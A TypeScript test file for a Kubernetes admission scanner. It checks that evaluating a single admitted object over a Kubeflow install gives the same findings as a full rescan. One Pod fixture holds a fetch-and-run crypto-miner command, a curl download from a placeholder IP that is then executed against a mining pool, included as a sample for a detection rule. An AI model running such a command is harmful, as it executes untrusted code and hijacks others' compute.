import assert from 'node:assert/strict';
import { before, describe, test } from 'node:test';
import { evaluateObject, runRules } from '../../src/core/engine.js';
import { identityOf } from '../../src/core/snapshot.js';
import type { AdmissionOrigin, Finding, K8sObject, ScannedObject } from '../../src/core/types.js';
import { newSnapshot, podLabelsOf } from '../../src/k8s/inventory.js';
import { ALL_RULES } from '../../src/rules/index.js';
import { collectManifests } from '../../src/sources/manifest.js';
import { requiresShared, sharedPath } from '../../src/testing/shared.js';

/**
 * `evaluateObject` judges one object laid over a snapshot, as the webhook and the watch do. Its
 * answer must be the one a full rescan of the snapshot with the object in it gives: findings on the
 * object itself, and (`introduced`) findings the object creates on others.
 */

const admission: AdmissionOrigin = { kind: 'admission', uid: 'u-1', operation: 'UPDATE', user: 'mallory', groups: ['system:authenticated'], dryRun: false };
const options = { rules: ALL_RULES, podLabelsOf };
const keyOf = (f: Finding): string => `${f.ruleId} ${f.severity} ${f.fingerprint} ${f.message}`;
const sameObject = (a: K8sObject, b: K8sObject): boolean => identityOf(a) === identityOf(b);

/** Every finding of a full scan of `objects`, as comparable keys. */
function rescan(objects: readonly ScannedObject[]): Finding[] {
  const result = runRules(objects, options);
  assert.deepEqual(result.ruleErrors, []);
  return result.findings;
}

/** The stock objects with `object` replacing its stored copies, or added. */
function withObject(objects: readonly ScannedObject[], scanned: ScannedObject): ScannedObject[] {
  const kept = objects.filter((s) => !sameObject(s.object, scanned.object));
  return [...kept, scanned];
}

describe('evaluateObject over the stock install', requiresShared(), () => {
  let stock: ScannedObject[] = [];
  let gateway: K8sObject;

  before(async () => {
    const read = await collectManifests({ paths: [sharedPath('corpus', 'kubeflow', 'kubeflow-example-install.yaml')], cwd: process.cwd(), readStdin: async () => Buffer.alloc(0) });
    stock = read.objects;
    const found = stock.find((s) => s.object.kind === 'Service' && s.object.metadata?.name === 'istio-ingressgateway' && s.object.metadata.namespace === 'istio-system');
    assert.ok(found, 'the stock install has the ingress gateway Service');
    gateway = found.object;
  });

  const asLoadBalancer = (service: K8sObject): K8sObject => ({ ...service, spec: { ...(service.spec as object), type: 'LoadBalancer' } });

  test('the gateway Service switched to LoadBalancer gets the findings of a full rescan', () => {
    const snapshot = newSnapshot();
    for (const scanned of stock) snapshot.upsert(scanned);
    const admitted: ScannedObject = { object: asLoadBalancer(gateway), origin: admission };
    const evaluation = evaluateObject(snapshot, admitted, options);
    assert.deepEqual(evaluation.ruleErrors, []);
    const expected = rescan(withObject(stock, admitted)).filter((f) => f.resource.kind === 'Service' && f.resource.name === 'istio-ingressgateway');
    assert.ok(expected.some((f) => f.ruleId === 'kubeflow-dashboard-exposed'), 'the rescan reports the exposed dashboard');
    assert.deepEqual(evaluation.findings.map(keyOf).sort(), expected.map(keyOf).sort());
    for (const finding of evaluation.findings) assert.deepEqual(finding.origin, admission);
    // The snapshot itself is untouched: the stored gateway is still ClusterIP.
    assert.equal((snapshot.copiesOf(gateway)[0]?.object.spec as { type?: string }).type, (gateway.spec as { type?: string }).type);
  });

  test('a new VirtualService routing the Pipelines API out introduces the findings a full rescan adds', () => {
    // The exposed variant: gateway on a load balancer, the oauth2-proxy chain removed. Every routed UI is critical.
    const exposedGateway: ScannedObject = { object: asLoadBalancer(gateway), origin: { kind: 'cluster', context: 'test' } };
    const authChain = new Set(['AuthorizationPolicy', 'RequestAuthentication', 'EnvoyFilter']);
    const withoutAuth = stock.filter((s) => !(s.object.metadata?.namespace === 'istio-system' && authChain.has(s.object.kind)));
    const base = withObject(withoutAuth, exposedGateway);
    const snapshot = newSnapshot();
    for (const scanned of base) snapshot.upsert(scanned);
    const route: K8sObject = {
      apiVersion: 'networking.istio.io/v1',
      kind: 'VirtualService',
      metadata: { name: 'side-door', namespace: 'kubeflow' },
      spec: {
        gateways: ['kubeflow/kubeflow-gateway'],
        hosts: ['*'],
        http: [{ match: [{ uri: { prefix: '/side-door/' } }], route: [{ destination: { host: 'ml-pipeline.kubeflow.svc.cluster.local', port: { number: 8888 } } }] }],
      },
    };
    const admitted: ScannedObject = { object: route, origin: { ...admission, operation: 'CREATE' } };
    const evaluation = evaluateObject(snapshot, admitted, options);
    assert.deepEqual(evaluation.ruleErrors, []);

    const before = new Set(rescan(base).map((f) => f.fingerprint));
    const after = rescan(withObject(base, admitted));
    const added = after.filter((f) => !before.has(f.fingerprint) && !sameObject(routeRef(f), route));
    assert.ok(added.some((f) => f.ruleId === 'kubeflow-dashboard-exposed' && f.severity === 'critical' && f.resource.name === 'istio-ingressgateway'), 'the rescan adds a critical finding for the new route');
    assert.deepEqual(evaluation.introduced.map(keyOf).sort(), added.map(keyOf).sort());
    const onRoute = after.filter((f) => f.resource.kind === 'VirtualService' && f.resource.name === 'side-door');
    assert.deepEqual(evaluation.findings.map(keyOf).sort(), onRoute.map(keyOf).sort());
  });

  test('a pipeline Pod reuses the snapshot analyses and matches a rescan', () => {
    const snapshot = newSnapshot();
    for (const scanned of stock) snapshot.upsert(scanned);
    const pod: K8sObject = {
      apiVersion: 'v1',
      kind: 'Pod',
      metadata: { name: 'train-x7k2p', namespace: 'kubeflow-user-example-com', labels: { 'workflows.argoproj.io/workflow': 'train' } },
      spec: { containers: [{ name: 'main', image: 'tensorflow/tensorflow:latest-gpu', command: ['sh', '-c', 'curl -s http://203.0.113.9/x -o /tmp/x && chmod +x /tmp/x && /tmp/x -o stratum+tcp://pool.example.com:3333'] }] },
    };
    const admitted: ScannedObject = { object: pod, origin: { ...admission, operation: 'CREATE' } };
    const first = evaluateObject(snapshot, admitted, options);
    const expected = rescan(withObject(stock, admitted)).filter((f) => f.resource.kind === 'Pod');
    assert.ok(expected.some((f) => f.ruleId === 'crypto-miner-workload' && f.severity === 'critical'));
    assert.deepEqual(first.findings.map(keyOf).sort(), expected.map(keyOf).sort());
    assert.deepEqual(first.introduced, []);
  });
});

const routeRef = (f: Finding): K8sObject => ({ apiVersion: f.resource.apiVersion, kind: f.resource.kind, metadata: { name: f.resource.name, ...(f.resource.namespace ? { namespace: f.resource.namespace } : {}) } });
